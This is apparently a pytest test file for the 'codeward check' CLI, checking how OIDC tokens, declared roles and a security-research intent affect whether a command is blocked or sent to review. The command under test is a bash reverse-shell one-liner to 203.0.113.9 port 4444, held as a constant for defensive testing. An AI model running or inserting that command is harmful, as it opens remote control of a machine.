"""`codeward check --token`: a verified token makes the CLI's roles count; a bad one is a clear error."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from issuer import AUDIENCE, ISSUER, Issuer

from codeward.adapters.cli import main

REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as done:
        main(list(argv))
    out, err = capsys.readouterr()
    return int(done.value.code or 0), out, err


@pytest.fixture
def oidc(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, jwks_file: Path) -> None:
    monkeypatch.setenv("CODEWARD_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("CODEWARD_OIDC_ISSUER", ISSUER)
    monkeypatch.setenv("CODEWARD_OIDC_AUDIENCE", AUDIENCE)
    monkeypatch.setenv("CODEWARD_JWKS", str(jwks_file))
    monkeypatch.delenv("CODEWARD_TOKEN", raising=False)
    policy = tmp_path / "org.yaml"
    policy.write_text(
        "codeward: 1\nid: org\nidentity:\n  role_claims: [groups]\n  role_map: {sec-team: [security-engineer]}\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("CODEWARD_TEST_POLICY", str(policy))


def check(capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, dict[str, Any], str]:
    code, out, err = run(
        capsys,
        "check",
        "-c",
        REVERSE_SHELL,
        "--intent",
        "security_research",
        "--policy",
        os.environ["CODEWARD_TEST_POLICY"],
        "--format",
        "json",
        *extra,
    )
    return code, (json.loads(out) if out.strip() else {}), err


def test_a_claimed_role_without_a_token_does_not_unlock_research(
    oidc: None, capsys: pytest.CaptureFixture[str]
) -> None:
    code, decision, _ = check(capsys, "--role", "security-engineer")
    assert decision["intent"]["authorized"] is False
    assert (decision["action"], code) == ("block", 4)


def test_a_verified_token_makes_the_role_count(
    oidc: None, issuer: Issuer, capsys: pytest.CaptureFixture[str]
) -> None:
    code, decision, _ = check(capsys, "--token", issuer.token())
    assert decision["intent"]["authorized"] is True
    assert decision["intent"]["evidence"][0].startswith("declared: role security-engineer (verified)")
    assert (decision["action"], code) == ("review", 3)


def test_the_token_can_come_from_the_environment(
    oidc: None, issuer: Issuer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODEWARD_TOKEN", issuer.token())
    _, decision, _ = check(capsys)
    assert decision["intent"]["authorized"] is True


def test_roles_the_token_does_not_grant_are_ignored_and_said_so(
    oidc: None, issuer: Issuer, capsys: pytest.CaptureFixture[str]
) -> None:
    _, _, err = check(capsys, "--token", issuer.token(groups=["developers"]), "--role", "security-engineer")
    assert "--role security-engineer ignored" in err


def test_a_bad_token_is_a_clear_error_not_an_anonymous_request(
    oidc: None, issuer: Issuer, capsys: pytest.CaptureFixture[str]
) -> None:
    code, decision, err = check(capsys, "--token", issuer.token(aud="someone-else"))
    assert code == 2
    assert decision == {}
    assert "token rejected: audience does not include codeward" in err
    assert "Traceback" not in err
